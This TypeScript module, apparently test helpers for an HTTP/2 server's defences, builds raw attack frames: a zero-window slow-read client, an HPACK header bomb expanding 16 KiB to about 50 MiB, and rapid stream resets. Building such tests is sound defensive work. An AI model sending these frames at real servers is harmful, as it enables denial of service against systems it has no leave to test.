/** HTTP/2 frames that only attackers send. */

const HEADERS = 1;
export const RST_STREAM = 3;
const SETTINGS = 4;
export const PING = 6;
const WINDOW_UPDATE = 8;
const END_STREAM_AND_HEADERS = 0x05;
const END_HEADERS = 0x04;
const CANCEL = 8;
/** The default maximum payload of a frame. */
const FRAME_MAX_BYTES = 16_384;
/** The first index of the dynamic HPACK table. */
const OWN_ENTRY = 62;

export const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, { stream: 0 })]);

function frame(
  type: number,
  { stream, flags = 0, payload = Buffer.alloc(0) }: { stream: number; flags?: number; payload?: Buffer },
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A client that takes no byte of an answer before it gives credit, and its first request. */
export function stingyRequest(method: 'GET' | 'POST', path: string): Buffer {
  const initialWindowOfNone = frame(SETTINGS, { stream: 0, payload: Buffer.from([0, 4, 0, 0, 0, 0]) });
  const head = [Buffer.from([method === 'GET' ? 0x82 : 0x83, 0x86]), literal(0x00, ':path', path)];
  const payload = Buffer.concat([...head, literal(0x00, ':authority', 'x')]);
  const flags = method === 'GET' ? END_STREAM_AND_HEADERS : END_HEADERS;
  return Buffer.concat([
    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    initialWindowOfNone,
    frame(HEADERS, { stream: 1, flags, payload }),
  ]);
}

/** Credit for 25,600 bytes of a stream. */
export function credit(stream: number): Buffer {
  return frame(WINDOW_UPDATE, { stream, payload: Buffer.from([0, 0, 100, 0]) });
}

export function ping(): Buffer {
  return frame(PING, { stream: 0, payload: Buffer.alloc(8) });
}

export type Frame = { readonly type: number; readonly stream: number };

/** The frames that have arrived whole. */
export function framesOf(bytes: Buffer): readonly Frame[] {
  const frames: Frame[] = [];
  for (let at = 0; at + 9 <= bytes.length; at += 9 + bytes.readUIntBE(at, 3)) {
    frames.push({ type: bytes.readUInt8(at + 3), stream: bytes.readUInt32BE(at + 5) });
  }
  return frames;
}

/** An HPACK integer with a prefix of seven bits. */
function hpackLength(length: number): Buffer {
  const bytes: number[] = [];
  if (length < 127) return Buffer.from([length]);
  bytes.push(127);
  let rest = length - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) + 128);
  bytes.push(rest);
  return Buffer.from(bytes);
}

function literal(kind: number, name: string, value: string): Buffer {
  const parts = [Buffer.from([kind]), hpackLength(name.length), Buffer.from(name)];
  return Buffer.concat([...parts, hpackLength(value.length), Buffer.from(value)]);
}

const GET_OVER_HTTP = Buffer.from([0x82, 0x86]);
const WITHOUT_INDEX = 0x00;
const WITH_INDEX = 0x40;

/** A 16 KiB frame that expands to about 50 MiB of headers: it indexes one long header and repeats it. */
export function headerBomb(stream: number): Buffer {
  const start = Buffer.concat([
    GET_OVER_HTTP,
    literal(WITHOUT_INDEX, ':path', '/'),
    literal(WITHOUT_INDEX, ':authority', 'x'),
    literal(WITH_INDEX, 'x-bomb', 'x'.repeat(3_900)),
  ]);
  const again = Buffer.alloc(FRAME_MAX_BYTES - start.length, 0x80 + OWN_ENTRY);
  return frame(HEADERS, { stream, flags: END_STREAM_AND_HEADERS, payload: Buffer.concat([start, again]) });
}

/** A request that the client resets at once, with the code that cancels it or another one. */
export function resetRequest(stream: number, headers: { readonly [name: string]: string }, code = CANCEL): Buffer {
  const named = Object.entries({ ':authority': 'x', ...headers });
  const payload = Buffer.concat([GET_OVER_HTTP, ...named.map(([name, value]) => literal(WITHOUT_INDEX, name, value))]);
  return Buffer.concat([
    frame(HEADERS, { stream, flags: END_HEADERS, payload }),
    frame(RST_STREAM, { stream, payload: Buffer.from([0, 0, 0, code]) }),
  ]);
}
